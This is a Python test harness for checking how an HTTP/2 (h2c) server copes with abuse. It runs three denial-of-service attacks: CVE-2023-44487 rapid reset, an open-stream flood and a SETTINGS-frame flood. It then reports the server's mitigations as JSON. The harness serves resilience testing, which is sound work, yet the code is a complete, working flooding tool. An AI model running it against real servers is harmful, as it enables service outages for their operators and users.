#!/usr/bin/python3
"""Hostile HTTP/2 (h2c, prior knowledge) client for the end-to-end tests.

Standard library only (raw sockets, hand-built frames, HPACK without Huffman or dynamic
table). Run with /usr/bin/python3:

    h2_flood.py --target HOST:PORT [--timeout 10]

Runs three attacks, each on its own fresh TCP connection (client preface + SETTINGS, then
waits for the server's SETTINGS and ACKs it before attacking):

  rapid_reset     CVE-2023-44487: up to 1000 pairs of HEADERS(END_STREAM|END_HEADERS)
                  immediately followed by RST_STREAM(CANCEL) on stream ids 1, 3, 5, ...
                  "goaway"  the server sent GOAWAY (code in details) or closed/reset the
                            connection (details say whether before all pairs were sent);
                  "ignored" the connection stayed open without GOAWAY after all 1000.
  stream_flood    300 HEADERS(END_HEADERS, no END_STREAM) so the streams stay open.
                  "refused" the server sent RST_STREAM REFUSED_STREAM or PROTOCOL_ERROR,
                            or GOAWAY, or advertised MAX_CONCURRENT_STREAMS <= 100 and never
                            answered (HEADERS) more streams than that;
                  "accepted" otherwise.
  settings_flood  20000 empty SETTINGS frames written without reading (a send that blocks
                  for a short while is recorded as backpressure; the rest is then sent
                  while reading), then reads the ACKs.
                  "survived" whatever the server did (kept up, backpressure, GOAWAY, close);
                  the caller checks separately that the server still serves.

Any attack that hits an unexpected local exception reports "error" (traceback in
details). Prints ONE JSON object on stdout:

  {"rapid_reset": "goaway", "stream_flood": "refused", "settings_flood": "survived",
   "details": {"rapid_reset": {...}, "stream_flood": {...}, "settings_flood": {...}}}

Exit 0 if all three attacks ran (whatever the outcomes); exit 2 on usage errors or when a
connection cannot be established (TCP connect fails, or no server SETTINGS arrives); the
JSON (with "error" in details) is still printed in that case. Every socket operation is
non-blocking behind select() with a deadline (--timeout seconds per attack), and reads are
interleaved with writes, so a server that stops reading cannot hang the script; a
process-wide alarm is the last resort.
"""

import argparse
import errno
import json
import select
import signal
import socket
import sys
import time
import traceback

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
# Flags.
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
# Settings identifiers.
SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6
SETTINGS_NAMES = {
    0x1: "HEADER_TABLE_SIZE",
    0x2: "ENABLE_PUSH",
    0x3: "MAX_CONCURRENT_STREAMS",
    0x4: "INITIAL_WINDOW_SIZE",
    0x5: "MAX_FRAME_SIZE",
    0x6: "MAX_HEADER_LIST_SIZE",
    0x8: "ENABLE_CONNECT_PROTOCOL",
}
# Error codes.
NO_ERROR = 0x0
PROTOCOL_ERROR = 0x1
CANCEL = 0x8
REFUSED_STREAM = 0x7
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}

MAX_WINDOW = 2**31 - 1
DEFAULT_WINDOW = 65535

RAPID_RESET_PAIRS = 1000
STREAM_FLOOD_STREAMS = 300
STREAM_FLOOD_LIMIT = 100
SETTINGS_FLOOD_FRAMES = 20000
# How long a write may make no progress before the settings flood calls it backpressure.
SETTINGS_SEND_STALL = 1.0
# After the attack traffic is out, stop reading once the server has been silent this long
# (a mitigating server reacts at once; waiting for the full timeout would only slow tests).
QUIET = 2.0
# After a GOAWAY, keep reading this long for the close (and for statistics).
AFTER_GOAWAY = 1.0
# Keep at most this much queued locally while interleaving writes with reads.
WRITE_LOW_WATER = 16 * 1024


class ConnectError(Exception):
    """The target could not be reached or did not speak HTTP/2."""


def error_name(code):
    return ERROR_NAMES.get(code, "0x%x" % code)


# === Frames ===

def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    return (n.to_bytes(3, "big") + bytes((ftype, flags))
            + (stream_id & 0x7FFFFFFF).to_bytes(4, "big") + payload)


def settings_frame(pairs=(), ack=False):
    payload = b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in pairs)
    return frame(SETTINGS, ACK if ack else 0, 0, payload)


def rst_frame(stream_id, code):
    return frame(RST_STREAM, 0, stream_id, code.to_bytes(4, "big"))


def window_update_frame(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, increment.to_bytes(4, "big"))


def goaway_frame(last_stream_id, code):
    return frame(GOAWAY, 0, 0, last_stream_id.to_bytes(4, "big") + code.to_bytes(4, "big"))


def hpack_literal(name, value):
    """Literal header field without indexing, new (literal) name, no Huffman."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


# :method GET (static 2), :scheme http (static 6), :path / (static 4), :authority x.
REQUEST_BLOCK = b"\x82\x86\x84" + hpack_literal(":authority", "x")


def headers_frame(stream_id, end_stream):
    flags = END_HEADERS | (END_STREAM if end_stream else 0)
    return frame(HEADERS, flags, stream_id, REQUEST_BLOCK)


# === Connection ===

class Conn:
    """A non-blocking h2c client connection driven by select() under a deadline.

    Incoming frames are parsed as they arrive; PINGs and SETTINGS are answered
    automatically; everything interesting is counted for the reports."""

    def __init__(self, host, port, deadline):
        self.deadline = deadline
        try:
            self.sock = socket.create_connection((host, port), timeout=max(0.1, self.left()))
        except OSError as e:
            raise ConnectError("connect to %s:%s failed: %s" % (host, port, e)) from e
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.rbuf = bytearray()
        self.wbuf = bytearray()
        self.bytes_written = 0
        self.bytes_read = 0
        self.closed = None            # None, "eof" or "reset"/error text
        self.last_rx = time.monotonic()
        self.read_enabled = True
        self.answer_control = True    # queue PING ACK / SETTINGS ACK automatically
        # Statistics.
        self.server_settings = None   # first non-ACK SETTINGS from the server
        self.server_settings_frames = 0
        self.settings_acks = 0
        self.pings = 0
        self.goaways = []             # (last_stream_id, code, debug)
        self.rst_codes = {}           # code -> count
        self.headers_streams = set()  # streams the server sent HEADERS on
        self.data_bytes = 0
        self.frames_by_type = {}
        self.unacked_data = 0

    def left(self):
        return self.deadline - time.monotonic()

    # --- I/O ---

    def queue(self, data):
        self.wbuf += data

    def pump(self, timeout):
        """One select() round: read what is there, write what we can."""
        if self.closed:
            return
        timeout = max(0.0, min(timeout, self.left()))
        rl = [self.sock] if self.read_enabled else []
        wl = [self.sock] if self.wbuf else []
        if not rl and not wl:
            time.sleep(timeout)
            return
        try:
            r, w, _ = select.select(rl, wl, [], timeout)
        except (OSError, ValueError) as e:
            self.closed = "select: %s" % e
            return
        if r:
            self._read()
        if w and not self.closed:
            self._write()

    def _read(self):
        while not self.closed:
            try:
                chunk = self.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return
            except ConnectionResetError:
                self.closed = "reset"
                return
            except OSError as e:
                self.closed = "recv: %s" % errno.errorcode.get(e.errno, e)
                return
            if not chunk:
                self.closed = "eof"
                return
            self.bytes_read += len(chunk)
            self.last_rx = time.monotonic()
            self.rbuf += chunk
            self._parse()
            if len(chunk) < 65536:
                return

    def _write(self):
        while self.wbuf and not self.closed:
            try:
                n = self.sock.send(self.wbuf)
            except (BlockingIOError, InterruptedError):
                return
            except (BrokenPipeError, ConnectionResetError) as e:
                self.closed = "reset" if isinstance(e, ConnectionResetError) else "epipe"
                return
            except OSError as e:
                self.closed = "send: %s" % errno.errorcode.get(e.errno, e)
                return
            self.bytes_written += n
            del self.wbuf[:n]

    def write_only(self, stall):
        """Write without reading; returns False if no progress was possible for `stall`
        seconds (backpressure) or the deadline passed."""
        while self.wbuf and not self.closed:
            t = min(stall, self.left())
            if t <= 0:
                return False
            try:
                _, w, _ = select.select([], [self.sock], [], t)
            except (OSError, ValueError) as e:
                self.closed = "select: %s" % e
                return False
            if not w:
                return False
            self._write()
        return not self.wbuf

    def flush(self):
        """Write everything queued, reading meanwhile, until done/closed/deadline."""
        while self.wbuf and not self.closed and self.left() > 0:
            self.pump(0.1)

    def read_until(self, done, quiet=QUIET):
        """Read (and keep writing answers) until done() is true, the peer closes, the
        deadline passes, or nothing has arrived for `quiet` seconds."""
        while not self.closed and self.left() > 0 and not done():
            if time.monotonic() - self.last_rx > quiet and not self.wbuf:
                break
            self.pump(0.05)

    def close(self, goaway=False):
        if goaway and not self.closed:
            try:
                self.sock.send(goaway_frame(0, NO_ERROR))
            except OSError:
                pass
        try:
            self.sock.close()
        except OSError:
            pass

    # --- frames ---

    def _parse(self):
        buf = self.rbuf
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(buf[9:9 + length])
            del buf[:9 + length]
            self._on_frame(ftype, flags, sid, payload)

    def _on_frame(self, ftype, flags, sid, payload):
        self.frames_by_type[ftype] = self.frames_by_type.get(ftype, 0) + 1
        if ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.server_settings_frames += 1
                values = {}
                for i in range(0, len(payload) - len(payload) % 6, 6):
                    values[int.from_bytes(payload[i:i + 2], "big")] = \
                        int.from_bytes(payload[i + 2:i + 6], "big")
                if self.server_settings is None:
                    self.server_settings = values
                else:
                    self.server_settings.update(values)
                if self.answer_control:
                    self.queue(settings_frame(ack=True))
        elif ftype == PING:
            self.pings += 1
            if not flags & ACK and self.answer_control and len(payload) == 8:
                self.queue(frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY:
            if len(payload) >= 8:
                last = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                code = int.from_bytes(payload[4:8], "big")
                self.goaways.append((last, code, payload[8:200].decode("utf-8", "replace")))
        elif ftype == RST_STREAM:
            if len(payload) == 4:
                code = int.from_bytes(payload, "big")
                self.rst_codes[code] = self.rst_codes.get(code, 0) + 1
        elif ftype == HEADERS:
            self.headers_streams.add(sid)
        elif ftype == DATA:
            self.data_bytes += len(payload)
            self.unacked_data += len(payload)
            # Our connection window starts huge; top it up now and then anyway.
            if self.unacked_data > (1 << 24) and self.answer_control:
                self.queue(window_update_frame(0, self.unacked_data))
                self.unacked_data = 0

    # --- setup and reports ---

    def handshake(self):
        """Preface + SETTINGS (+ big connection window), then wait for the server's
        SETTINGS (which is ACKed automatically) and send the ACK."""
        self.queue(PREFACE)
        self.queue(settings_frame([
            (SETTINGS_ENABLE_PUSH, 0),
            (SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW),
        ]))
        self.queue(window_update_frame(0, MAX_WINDOW - DEFAULT_WINDOW))
        while self.server_settings is None and not self.closed and self.left() > 0:
            self.pump(0.1)
        if self.server_settings is None:
            raise ConnectError("no SETTINGS from the server (%s)"
                               % (self.closed or "timed out"))
        self.flush()

    def goaway_report(self):
        if not self.goaways:
            return None
        last, code, debug = self.goaways[0]
        return {"code": code, "name": error_name(code), "last_stream_id": last,
                "debug": debug, "count": len(self.goaways)}

    def common_report(self):
        return {
            "server_settings": {SETTINGS_NAMES.get(k, str(k)): v
                                for k, v in (self.server_settings or {}).items()},
            "goaway": self.goaway_report(),
            "rst_stream_codes": {error_name(k): v for k, v in sorted(self.rst_codes.items())},
            "response_headers": len(self.headers_streams),
            "data_bytes": self.data_bytes,
            "pings_received": self.pings,
            "closed_by_server": self.closed,
            "bytes_written": self.bytes_written,
            "bytes_read": self.bytes_read,
        }


# === Attacks ===

def rapid_reset(host, port, timeout):
    start = time.monotonic()
    conn = Conn(host, port, start + timeout)
    try:
        conn.handshake()
        base = conn.bytes_written + len(conn.wbuf)
        pair_len = len(headers_frame(1, True)) + len(rst_frame(1, CANCEL))
        queued = 0
        batch = 20
        while queued < RAPID_RESET_PAIRS and not conn.closed and not conn.goaways \
                and conn.left() > 0:
            if len(conn.wbuf) < WRITE_LOW_WATER:
                chunk = bytearray()
                for _ in range(min(batch, RAPID_RESET_PAIRS - queued)):
                    sid = 2 * queued + 1
                    chunk += headers_frame(sid, True)
                    chunk += rst_frame(sid, CANCEL)
                    queued += 1
                conn.queue(chunk)
                conn.pump(0)
            else:
                conn.pump(0.05)
        # Push out what is queued (answers included), reading meanwhile.
        while conn.wbuf and not conn.closed and not conn.goaways and conn.left() > 0:
            conn.pump(0.05)
        # Pairs sent = pair bytes that left the socket (control answers are few; cap).
        pairs_sent = min(queued, max(0, (conn.bytes_written - base) // pair_len))
        if conn.wbuf == b"" and not conn.goaways and not conn.closed:
            pairs_sent = queued
        all_sent = pairs_sent >= RAPID_RESET_PAIRS
        # Read until close / GOAWAY (+ a moment) / quiet / deadline.
        conn.read_until(lambda: bool(conn.goaways))
        if conn.goaways:
            until = time.monotonic() + AFTER_GOAWAY
            conn.deadline = min(conn.deadline, until)
            conn.read_until(lambda: False, quiet=AFTER_GOAWAY)
        if conn.goaways or conn.closed:
            result = "goaway"
        else:
            result = "ignored"
        details = {
            "pairs_queued": queued,
            "pairs_sent": pairs_sent,
            "all_pairs_sent": all_sent,
            "closed_before_all_sent": bool(conn.closed) and not all_sent,
            "seconds": round(time.monotonic() - start, 3),
        }
        details.update(conn.common_report())
        return result, details
    finally:
        conn.close()


def stream_flood(host, port, timeout):
    start = time.monotonic()
    conn = Conn(host, port, start + timeout)
    try:
        conn.handshake()
        opened = 0
        batch = 25
        while opened < STREAM_FLOOD_STREAMS and not conn.closed and conn.left() > 0:
            if len(conn.wbuf) < WRITE_LOW_WATER:
                chunk = bytearray()
                for _ in range(min(batch, STREAM_FLOOD_STREAMS - opened)):
                    chunk += headers_frame(2 * opened + 1, False)
                    opened += 1
                conn.queue(chunk)
                conn.pump(0)
            else:
                conn.pump(0.05)
        conn.flush()
        all_sent = not conn.wbuf and not conn.closed

        def settled():
            # Every stream got an answer (response or reset), or the server gave up.
            return bool(conn.goaways) or \
                len(conn.headers_streams) + sum(conn.rst_codes.values()) >= opened

        conn.read_until(settled)
        if not conn.goaways and not conn.closed:
            # Give the server a moment more to refuse/answer what trickles in.
            conn.read_until(lambda: False, quiet=0.5)
        advertised = (conn.server_settings or {}).get(SETTINGS_MAX_CONCURRENT_STREAMS)
        answered = len(conn.headers_streams)
        refused = (conn.rst_codes.get(REFUSED_STREAM, 0) > 0
                   or conn.rst_codes.get(PROTOCOL_ERROR, 0) > 0
                   or bool(conn.goaways)
                   or (advertised is not None and advertised <= STREAM_FLOOD_LIMIT
                       and answered <= advertised))
        details = {
            "streams_opened": opened,
            "all_streams_sent": all_sent,
            "advertised_max_concurrent_streams": advertised,
            "answered_streams": answered,
            "seconds": round(time.monotonic() - start, 3),
        }
        details.update(conn.common_report())
        return ("refused" if refused else "accepted"), details
    finally:
        conn.close(goaway=True)


def settings_flood(host, port, timeout):
    start = time.monotonic()
    conn = Conn(host, port, start + timeout)
    try:
        conn.handshake()
        acks_before = conn.settings_acks
        # Phase 1: write all frames without reading.
        base = conn.bytes_written + len(conn.wbuf)
        frame_bytes = settings_frame()
        conn.queue(frame_bytes * SETTINGS_FLOOD_FRAMES)
        conn.read_enabled = False
        completed = conn.write_only(SETTINGS_SEND_STALL)
        send_blocked = not completed and not conn.closed
        sent_before_block = max(0, (conn.bytes_written - base) // len(frame_bytes))
        phase1_seconds = round(time.monotonic() - start, 3)
        # Phase 2: read, and push out whatever is left while reading.
        conn.read_enabled = True
        conn.flush()
        frames_sent = min(SETTINGS_FLOOD_FRAMES,
                          max(0, (conn.bytes_written - base) // len(frame_bytes)))
        # Wait for the ACKs (one per flood frame, plus any still due for our first one).
        target = acks_before + frames_sent + (0 if acks_before else 1)
        conn.read_until(lambda: conn.settings_acks >= target or bool(conn.goaways))
        if conn.goaways:
            conn.deadline = min(conn.deadline, time.monotonic() + AFTER_GOAWAY)
            conn.read_until(lambda: False, quiet=AFTER_GOAWAY)
        flood_acks = conn.settings_acks - acks_before - (0 if acks_before else 1)
        details = {
            "frames_queued": SETTINGS_FLOOD_FRAMES,
            "frames_sent": frames_sent,
            "send_blocked": send_blocked,
            "frames_sent_before_block": sent_before_block if send_blocked else None,
            "phase1_seconds": phase1_seconds,
            "acks_received": max(0, flood_acks),
            "seconds": round(time.monotonic() - start, 3),
        }
        details.update(conn.common_report())
        return "survived", details
    finally:
        conn.close(goaway=True)


ATTACKS = [
    ("rapid_reset", rapid_reset),
    ("stream_flood", stream_flood),
    ("settings_flood", settings_flood),
]


# === Main ===

def parse_target(target):
    if target.startswith("["):
        host, sep, rest = target[1:].partition("]")
        if not sep or not rest.startswith(":"):
            raise ValueError("bad target %r" % target)
        port = rest[1:]
    else:
        host, sep, port = target.rpartition(":")
        if not sep or not host:
            raise ValueError("bad target %r (want HOST:PORT)" % target)
    port = int(port)
    if not 0 < port < 65536:
        raise ValueError("bad port in %r" % target)
    return host, port


def main(argv=None):
    ap = argparse.ArgumentParser(description="Hostile HTTP/2 (h2c) client: rapid reset, "
                                 "stream flood and settings flood; prints one JSON object.")
    ap.add_argument("--target", required=True, help="HOST:PORT of an h2c server")
    ap.add_argument("--timeout", type=float, default=10.0,
                    help="seconds per attack (default 10)")
    args = ap.parse_args(argv)  # exits 2 on usage errors
    try:
        host, port = parse_target(args.target)
    except ValueError as e:
        print("h2_flood: %s" % e, file=sys.stderr)
        return 2
    if args.timeout <= 0:
        print("h2_flood: --timeout must be positive", file=sys.stderr)
        return 2

    out = {"details": {}}

    def emit():
        results = {k: v for k, v in out.items() if k != "details"}
        results["details"] = out["details"]
        sys.stdout.write(json.dumps(results) + "\n")
        sys.stdout.flush()

    # Last resort against any hang: the whole run may not exceed every attack's budget
    # plus slack.
    def on_alarm(signum, frame_):
        out["details"]["error"] = "global watchdog fired"
        emit()
        sys.stderr.write("h2_flood: watchdog fired\n")
        sys.stderr.flush()
        import os
        os._exit(2)

    signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(int(len(ATTACKS) * (args.timeout + 5)) + 10)

    for name, attack in ATTACKS:
        try:
            result, details = attack(host, port, args.timeout)
        except ConnectError as e:
            out[name] = "error"
            out["details"][name] = {"error": str(e)}
            out["details"]["error"] = "%s: %s" % (name, e)
            emit()
            print("h2_flood: %s: %s" % (name, e), file=sys.stderr)
            return 2
        except Exception as e:  # unexpected local failure: report, carry on
            result = "error"
            details = {"error": "%s: %s" % (type(e).__name__, e),
                       "traceback": traceback.format_exc()}
        out[name] = result
        out["details"][name] = details
    signal.alarm(0)
    emit()
    return 0


if __name__ == "__main__":
    sys.exit(main())
